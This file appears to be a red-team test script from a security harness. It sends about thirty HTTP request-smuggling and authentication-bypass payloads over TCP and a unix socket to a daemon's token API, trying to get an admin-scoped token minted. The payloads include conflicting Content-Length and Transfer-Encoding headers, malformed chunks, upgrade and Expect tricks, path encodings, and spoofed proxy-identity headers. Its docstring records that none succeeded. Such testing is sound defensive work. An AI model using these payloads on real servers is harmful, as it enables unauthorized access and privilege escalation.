"""Sends bytes that one reader takes for one request and another for two.

Tries: without credentials over TCP, and from inside over the unix socket: two lengths, a length
and chunks, chunks with odd sizes and extensions, folded and doubled heads, bare line feeds, spaces
before colons, whole addresses as targets, HTTP/0.9, 1.0 and 2.0, a second request behind an
upgrade, in a body, behind `Expect`, signatures of another daemon, and heads by which a proxy names
a user.
Would prove: a request is taken for one that somebody else was let in with.
Saw: no token was made, nothing was answered with 2xx but what is open to all.
"""
import socket
import sys
from pathlib import Path

CONTROL = "by_hand"
BODY = '{"name":"smuggled","scopes":["admin"]}'


def texts(host, credential=""):
    inner = (f"POST /api/tokens HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
             f"{credential}Content-Length: {len(BODY)}\r\n\r\n{BODY}")
    if credential:
        return [inner]
    head = f"POST /api/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    chunked = "Transfer-Encoding: chunked\r\n"
    return [
        inner, f"{head}Content-Length: 2\r\nContent-Length: {2 + len(inner)}\r\n\r\n{{}}{inner}",
        f"{head}Content-Length: 4\r\n{chunked}\r\n0\r\n\r\n{inner}",
        f"{head}{chunked}Content-Length: {len(inner)}\r\n\r\n0\r\n\r\n{inner}",
        f"{head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{inner}",
        f"{head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}",
        f"{head}{chunked}Transfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
        f"{head}{chunked}\r\n-1\r\n{inner}", f"{head}{chunked}\r\nffffffffffffffff1\r\n{inner}",
        f"{head}{chunked}\r\n2;a=\"\r\n\"\r\n{{}}\r\n0\r\n\r\n{inner}",
        f"{head}Content-Length: +2\r\n\r\n{{}}{inner}",
        f"{head}X: y\r\n Content-Length: 9\r\n\r\n{inner}", f"{head}Content-Length: 0\n\n{inner}",
        f"GET /healthz HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\n\r\n{inner}",
        f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n{inner}",
        f"GET /healthz HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"{head}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{{}}{inner}",
        inner.replace(" /api", f" http://{host}/api"), inner.replace("HTTP/1.1", "HTTP/1.0"),
        inner.replace("POST /api/tokens", "POST //api/tokens"),
        inner.replace("/tokens", "/tok%65ns"),
        inner.replace("/api/tokens", "/healthz/../api/tokens"),
        inner.replace("HTTP/1.1", "HTTP/2.0"),
        inner.replace("Host: ", "X-Forwarded-User: admin\r\nX-Real-IP: 127.0.0.1\r\nHost: "),
        inner.replace("Host: ", "X-Perdure-Peer: 2.0.0.0.0\r\nHost: "),
        inner.replace("/api/tokens", "/api/peer/call"),
        inner.replace("Host: ", "Cookie: perdure=x; perdure=y\r\nX-Perdure-Key: x\r\nHost: "),
        inner.replace("Host: ", "Authorization: Bearer\r\nAuthorization: Basic YTpi\r\nHost: "),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner, "\r\n\r\n" + inner, "GET /healthz\r\n" + inner,
    ]


def send(line, text):
    line.settimeout(1)
    answer = b""
    try:
        line.sendall(text.encode())
        line.shutdown(socket.SHUT_WR)
        while data := line.recv(65536):
            answer += data
    except OSError:
        pass
    finally:
        line.close()
    return answer


def attack(world):
    host, port = world.place()
    credential = f"Authorization: Bearer {world.token}\r\n" if world.control else ""
    for text in texts(f"{host}:{port}", credential):
        send(socket.create_connection((host, port)), text)
    world.inside(world.attacker(), __file__, world.socket)
    made = [token["name"] for token in world.api.get("/api/tokens")[1]["tokens"]]
    return ["a token was made"] if "smuggled" in made else []


def inside(path):
    for text in texts("localhost"):
        line = socket.socket(socket.AF_UNIX)
        line.connect(path)
        print(send(line, text)[:60])


if __name__ == "__main__":
    inside(sys.argv[1])
